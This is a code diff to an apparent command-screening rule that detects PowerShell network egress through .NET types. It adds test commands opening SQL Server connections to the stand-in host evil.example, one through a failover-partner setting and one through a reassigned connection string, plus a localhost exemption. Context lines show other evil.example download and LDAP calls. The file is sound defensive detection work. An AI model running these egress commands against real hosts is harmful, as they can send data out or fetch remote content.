@@ -70,6 +70,8 @@ export const egressDotnet: Rule = {
       { command: "[Xml.Linq.XDocument]::Load('\\\\evil.example\\share\\a.xml')", shell: PS },
       { command: 'New-Object -TypeName System.Net.WebClient', shell: PS },
       { command: "(New-Object Data.SqlClient.SqlConnection 'Server=evil.example;Database=x').Open()", shell: PS },
+      { command: "$c = [Data.SqlClient.SqlConnection]::new('Server=localhost;Failover Partner=evil.example;Database=x'); $c.Open()", shell: PS },
+      { command: "$c = [Data.SqlClient.SqlConnection]::new('Server=localhost'); $c.ConnectionString = 'Server=evil.example'; $c.Open()", shell: PS },
       { command: "[adsi]'LDAP://evil.example/DC=x'", shell: PS },
       { command: "(New-Object Microsoft.VisualBasic.Devices.Network).DownloadFile('https://evil.example/x', 'x')", shell: PS },
     ],
@@ -90,6 +92,8 @@ export const egressDotnet: Rule = {
       { command: "[xml](Get-Content app.config)", shell: PS },
       { command: '# [Net.WebClient]::new()', shell: PS },
       { command: "New-Object Data.DataTable 'Users'", shell: PS },
+      { command: "$c = [System.Data.SqlClient.SqlConnection]::new('Server=localhost;Database=x;Integrated Security=true'); $c.Open()", shell: PS },
+      { command: "(New-Object Data.SqlClient.SqlConnection 'Data Source=(localdb)\\MSSQLLocalDB;Initial Catalog=app').Open()", shell: PS },
       { command: "[Microsoft.VisualBasic.Strings]::StrReverse('abc')", shell: PS },
     ],
   },
@@ -107,6 +111,9 @@ export const egressDotnet: Rule = {
       }
       const hit = networkType(use.type);
       if (hit === undefined) continue;
+      // A SQL Server connection whose static connection string names only allowed hosts (`Server=localhost`, `(local)`,
+      // `.\SQLEXPRESS`), on a line that cannot aim it elsewhere afterwards (see Analysis.retargets).
+      if (/sqlclient\.sqlconnection$/.test(hit) && use.servers?.every((h) => hosts.allows(h) !== undefined) === true && analysis.retargets !== true && !/connectionstring|psobject|reflection|gettype|getproperty|setvalue|invokemember|\$\w+\.[$("'(]/i.test(analysis.command)) continue;
       if (/^net\.(webclient|http\.httpclient)$/.test(hit) && allowedAt.some((c) => c.within.start <= use.span.start && use.span.end <= c.within.end)) continue;
       const how = use.member === undefined ? 'New-Object' : use.member === 'new' ? '::new()' : `::${use.member}`;
       const finding: Finding = {
